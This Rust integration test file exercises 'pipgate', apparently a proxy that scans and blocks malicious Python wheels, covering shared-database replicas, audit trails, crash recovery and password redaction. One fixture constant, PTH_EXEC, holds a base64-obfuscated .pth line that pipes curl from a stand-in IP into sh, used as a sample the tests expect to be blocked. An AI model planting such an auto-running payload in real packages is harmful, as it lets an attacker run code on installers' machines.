//! Replicas on PostgreSQL, end to end: a real PostgreSQL server started for each test
//! (`initdb` + `pg_ctl`, see `common/pg.rs`), two `pipgate serve --database postgres://…`
//! processes sharing it with no balancer in front (clients alternate), real pip and uv;
//! the one audit trail read back with `pipgate audit --database`.

mod common;
use common::pg::{PgServer, PG_PASSWORD};
use common::*;
use std::time::{Duration, Instant};

const PTH_EXEC: &str = "import base64;exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCBodHRwOi8vMjAzLjAuMTEzLjcveCB8IHNoIik='))\n";

fn repo_policy() -> String {
    std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/policy.yaml")).unwrap()
}

/// Two replicas on one database, `replica-a` and `replica-b`, started at once (their
/// migrations race).
fn two_replicas(upstream: &str, db_url: &str, policy: &str) -> (Pipgate, Pipgate) {
    let start = |name: &'static str| {
        let (u, d, p) = (upstream.to_string(), db_url.to_string(), policy.to_string());
        std::thread::spawn(move || Pipgate::start_full(&u, Some(&p), &["--database", &d, "--replica-id", name], &[]))
    };
    let (a, b) = (start("replica-a"), start("replica-b"));
    (a.join().unwrap(), b.join().unwrap())
}

/// `pipgate audit --database DB ARGS…`: (success, stdout, stderr).
fn audit_cli(db_url: &str, args: &[&str]) -> (bool, String, String) {
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_pipgate"))
        .args(["audit", "--database", db_url])
        .args(args)
        .env_remove("PIPGATE_DATABASE")
        .output()
        .unwrap();
    let text = |b: &[u8]| String::from_utf8_lossy(b).into_owned();
    (out.status.success(), text(&out.stdout), text(&out.stderr))
}

/// The shared trail as `pipgate audit --database DB --format json` prints it.
fn shared_trail(db_url: &str) -> Vec<serde_json::Value> {
    let (ok, stdout, stderr) = audit_cli(db_url, &["--format", "json"]);
    assert!(ok, "pipgate audit --database: {stderr}");
    stdout.lines().map(|l| serde_json::from_str(l).unwrap()).collect()
}

/// A decision's identity: (replica, request id, filename, decision). Request ids are unique
/// within one replica's run only.
fn identity(replica: &str, r: &serde_json::Value) -> (String, String, String, String) {
    let s = |k: &str| r[k].as_str().unwrap_or_default().to_string();
    (replica.to_string(), s("request_id"), s("filename"), s("decision"))
}

/// Rows of a query on the test database (a one-off connection).
fn query(db_url: &str, sql: &str) -> Vec<tokio_postgres::Row> {
    let rt = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
    rt.block_on(async {
        let (client, conn) = tokio_postgres::connect(db_url, tokio_postgres::NoTls).await.unwrap();
        let driver = tokio::spawn(conn);
        let rows = client.query(sql, &[]).await.unwrap();
        drop(client);
        let _ = driver.await;
        rows
    })
}

/// How many times a replica's log says it scanned these bytes.
fn scans_of(gate: &Pipgate, sha256: &str) -> usize {
    gate.log().lines().filter(|l| l.contains("scanning") && l.contains(sha256)).count()
}

#[test]
fn two_replicas_scan_each_artifact_once_and_give_the_same_verdicts() {
    let pg = PgServer::start();
    let db = pg.url("postgres");
    let idx = FakeIndex::start(Format::Json);
    let base = wheel("demo-base", "1.0", &[], &[]);
    let app = wheel("demo-app", "1.0", &["demo-base"], &[]);
    let evil = wheel("demo-pth", "1.0", &[], &[("demo_pth_init.pth", PTH_EXEC)]);
    let shas = [("demo-base", sha256_hex(&base.bytes)), ("demo-app", sha256_hex(&app.bytes))];
    let evil_sha = sha256_hex(&evil.bytes);
    idx.add_dist("demo-base", base);
    idx.add_dist("demo-app", app);
    idx.add_dist("demo-pth", evil);
    let (a, b) = two_replicas(&idx.url(), &db, &repo_policy());

    let migrations = query(&db, "SELECT version FROM pipgate_migrations ORDER BY version");
    let versions: Vec<i32> = migrations.iter().map(|r| r.get(0)).collect();
    assert_eq!(versions, [1, 2], "two replicas starting at once apply each migration once");

    // Four clients at once, alternating replicas and tools.
    let installs: Vec<_> = [(&a, "pip"), (&b, "uv"), (&b, "pip"), (&a, "uv")]
        .into_iter()
        .map(|(gate, tool)| {
            let (url, tool) = (gate.url.clone(), tool.to_string());
            std::thread::spawn(move || {
                let venv = Venv::new();
                let args = ["install", "--index-url", url.as_str(), "demo-app"];
                let out = if tool == "pip" { venv.pip(&args) } else { venv.uv_pip(&args) };
                assert!(out.status.success(), "{tool} via {url}: {}", show(&out));
                venv.run("import demo_app, demo_base; print(demo_app.VERSION, demo_base.VERSION)")
            })
        })
        .collect();
    for i in installs {
        assert_eq!(i.join().unwrap(), "1.0 1.0");
    }
    for (name, sha) in &shas {
        let (on_a, on_b) = (scans_of(&a, sha), scans_of(&b, sha));
        assert_eq!(on_a + on_b, 1, "{name} is scanned once cluster-wide (a: {on_a}, b: {on_b})");
    }

    // The same verdict from both: the malicious wheel is blocked by each replica. B blocks
    // it first, and A's dashboard shows B's block before A has seen the project at all.
    for (gate, tool) in [(&b, "uv"), (&a, "pip")] {
        let venv = Venv::new();
        let args = ["install", "--index-url", gate.url.as_str(), "demo-pth"];
        let out = if tool == "pip" { venv.pip(&args) } else { venv.uv_pip(&args) };
        assert!(!out.status.success(), "{tool} via {}: {}", gate.url, show(&out));
        assert!(String::from_utf8_lossy(&out.stderr).contains("403"), "{}", show(&out));
        let blocked = gate.audit().iter().any(|r| r["decision"] == "block" && r["project"] == "demo-pth");
        assert!(blocked, "{} audits its block", gate.url);
        if tool == "uv" {
            assert!(!a.audit().iter().any(|r| r["project"] == "demo-pth"), "A has decided nothing on demo-pth yet");
            let dashboard = format!("{}/-/?outcome=blocked", a.base());
            let deadline = Instant::now() + Duration::from_secs(20);
            loop {
                let page = http().get(&dashboard).send().unwrap().text().unwrap();
                if page.contains("demo_pth-1.0-py3-none-any.whl") {
                    break;
                }
                assert!(Instant::now() < deadline, "A's dashboard never showed B's block:\n{page}");
                std::thread::sleep(Duration::from_millis(100));
            }
        }
    }
    assert_eq!(scans_of(&a, &evil_sha) + scans_of(&b, &evil_sha), 1, "the blocked wheel is scanned once");
    let stored = query(&db, "SELECT count(*) FROM scans");
    assert_eq!(stored[0].get::<_, i64>(0), 3, "three reports in the shared store");

    // One audit trail: every decision of both replicas exactly once, in one order, each
    // with its replica: the same decisions as the two replicas' JSON-lines logs.
    let trail = shared_trail(&db);
    let seqs: Vec<i64> = trail.iter().map(|r| r["seq"].as_i64().unwrap()).collect();
    assert!(seqs.windows(2).all(|w| w[0] < w[1]), "one order: {seqs:?}");
    let mut from_trail: Vec<_> = trail.iter().map(|r| identity(r["replica"].as_str().unwrap(), r)).collect();
    let mut from_logs: Vec<_> = a.audit().iter().map(|r| identity("replica-a", r)).collect();
    from_logs.extend(b.audit().iter().map(|r| identity("replica-b", r)));
    from_trail.sort();
    from_logs.sort();
    assert!(from_logs.len() >= 8, "installs and blocks through both replicas were audited: {from_logs:?}");
    assert_eq!(from_trail, from_logs, "the trail holds exactly the decisions both replicas logged");
    for replica in ["replica-a", "replica-b"] {
        let blocks = trail.iter().filter(|r| r["replica"] == replica && r["decision"] == "block").count();
        assert!(blocks >= 1, "{replica}'s block is in the shared trail");
    }
    let (ok, table, _) = audit_cli(&db, &["--blocked"]);
    assert!(ok && table.starts_with("TIME") && table.contains("REPLICA"), "{table}");
    assert_eq!(table.lines().filter(|l| l.contains("demo-pth")).count(), 2, "one blocked line per replica:\n{table}");

    for gate in [&a, &b] {
        assert!(!gate.log().contains(PG_PASSWORD), "the database password is never logged");
    }
    // A wrong password: the error names the database, never the password given.
    let wrong = db.replace(PG_PASSWORD, "Wr0ng-pass-given");
    let (ok, stdout, stderr) = audit_cli(&wrong, &[]);
    assert!(!ok, "a wrong password fails: {stdout}");
    assert!(stderr.contains("postgres://pipgate:****@"), "the database is named: {stderr}");
    assert!(!stderr.contains("Wr0ng-pass-given") && !stderr.contains(PG_PASSWORD), "{stderr}");
}

/// A replica killed (SIGKILL) the moment its answers have left loses no decision: the serve
/// and the block it just answered are in the shared trail.
#[test]
fn a_replica_killed_right_after_answering_loses_no_decision() {
    let pg = PgServer::start();
    let db = pg.url("postgres");
    let idx = FakeIndex::start(Format::Json);
    let good = wheel("demo-good", "1.0", &[], &[]);
    let evil = wheel("demo-pth", "1.0", &[], &[("demo_pth_init.pth", PTH_EXEC)]);
    let (good_name, evil_name) = (good.filename.clone(), evil.filename.clone());
    idx.add_dist("demo-good", good);
    idx.add_dist("demo-pth", evil);
    let mut a =
        Pipgate::start_full(&idx.url(), Some(&repo_policy()), &["--database", &db, "--replica-id", "doomed"], &[]);
    let urls = [a.file_url("demo-good", &good_name), a.file_url("demo-pth", &evil_name)];
    // Both asked at once; each client reads the status line and headers, nothing more.
    let asks: Vec<_> = urls
        .into_iter()
        .map(|u| std::thread::spawn(move || http().get(u).send().map(|r| r.status().as_u16()).unwrap()))
        .collect();
    let statuses: Vec<u16> = asks.into_iter().map(|t| t.join().unwrap()).collect();
    a.child.kill().unwrap(); // SIGKILL, right after the answers left
    a.child.wait().unwrap();
    assert_eq!(statuses, [200, 403], "{}", a.log());

    let trail = shared_trail(&db);
    let decided: Vec<(&str, &str, &str)> = trail
        .iter()
        .map(|r| (r["replica"].as_str().unwrap(), r["filename"].as_str().unwrap(), r["decision"].as_str().unwrap()))
        .collect();
    for want in [("doomed", good_name.as_str(), "serve"), ("doomed", evil_name.as_str(), "block")] {
        assert_eq!(decided.iter().filter(|d| **d == want).count(), 1, "{want:?} in {decided:?}");
    }
}

#[test]
fn a_replica_killed_mid_download_leaves_the_other_serving_the_whole_file() {
    let pg = PgServer::start();
    let db = pg.url("postgres");
    let idx = FakeIndex::start(Format::Json);
    let (filename, generated) = Generated::wheel("demo-big", "1.0", 192);
    let (len, sha) = (generated.len, generated.sha256.clone());
    let mut f = FakeFile::new(Dist { filename: filename.clone(), bytes: vec![], metadata: None });
    f.generated = Some(std::sync::Arc::new(generated));
    idx.add("demo-big", f);
    let (mut a, b) = two_replicas(&idx.url(), &db, "# empty test policy\n");
    let client = reqwest::blocking::Client::builder().no_proxy().timeout(Duration::from_secs(120)).build().unwrap();

    // A client asks replica A; once A holds the file's flight lease (it is downloading), A dies.
    let url_a = a.file_url("demo-big", &filename);
    let on_a = {
        let c = client.clone();
        std::thread::spawn(move || c.get(url_a).send().and_then(|r| Ok((r.status().as_u16(), r.bytes()?.len()))))
    };
    let deadline = Instant::now() + Duration::from_secs(20);
    while query(&db, "SELECT key FROM flight_leases").is_empty() {
        assert!(Instant::now() < deadline, "replica A never took the flight lease: {}", a.log());
        std::thread::sleep(Duration::from_millis(10));
    }
    a.child.kill().unwrap();
    a.child.wait().unwrap();
    // An error: the connection died with the replica, nothing was served.
    if let Ok((status, got)) = on_a.join().unwrap() {
        assert!(!(status == 200 && got as u64 == len), "A's client got the whole file from a dead replica");
    }

    // Replica B takes the dead replica's lease over once it expires, and serves every byte.
    let started = Instant::now();
    let mut resp = client.get(b.file_url("demo-big", &filename)).send().unwrap();
    assert_eq!(resp.status(), 200, "{}", b.log());
    let mut hasher = <sha2::Sha256 as sha2::Digest>::new();
    let got = std::io::copy(&mut resp, &mut hasher).unwrap();
    assert_eq!((got, hex::encode(sha2::Digest::finalize(hasher))), (len, sha.clone()), "the whole file, verified");
    println!("replica B served {} MiB {:.1} s after A died", len >> 20, started.elapsed().as_secs_f64());
    assert!(b.log().contains("took over an expired flight lease"), "{}", b.log());
    assert_eq!(scans_of(&b, &sha), 1);
}

/// A decision the shared trail cannot commit is not served: the client gets a 503 saying
/// so, the failure is counted, and the replica's JSON-lines log keeps its line.
#[test]
fn a_decision_the_trail_cannot_commit_is_not_served() {
    let pg = PgServer::start();
    let db = pg.url("postgres");
    let idx = FakeIndex::start(Format::Json);
    let good = wheel("demo-good", "1.0", &[], &[]);
    let name = good.filename.clone();
    idx.add_dist("demo-good", good);
    let a = Pipgate::start_full(&idx.url(), None, &["--database", &db, "--replica-id", "replica-a"], &[]);
    // The database now refuses every serve record (as a full disk or a lost primary would).
    query(&db, "ALTER TABLE audit_trail ADD CONSTRAINT refuse_serves CHECK (decision <> 'serve')");

    let resp = http().get(a.file_url("demo-good", &name)).send().unwrap();
    assert_eq!(resp.status(), 503, "{}", a.log());
    let body = resp.text().unwrap();
    assert!(body.contains("audit"), "the answer says the decision could not be audited: {body}");
    assert!(!body.contains(PG_PASSWORD), "{body}");
    let metrics = http().get(format!("{}/metrics", a.base())).send().unwrap().text().unwrap();
    assert!(metrics.contains("pipgate_audit_trail_write_failures_total 1"), "{metrics}");
    let logged = a.audit().iter().any(|r| r["filename"] == name.as_str() && r["decision"] == "serve");
    assert!(logged, "the JSON-lines log keeps its line");
    assert!(shared_trail(&db).is_empty(), "nothing reached the trail");
    assert!(a.log().contains("AUDIT LOG WRITE FAILED") && !a.log().contains(PG_PASSWORD), "{}", a.log());
}
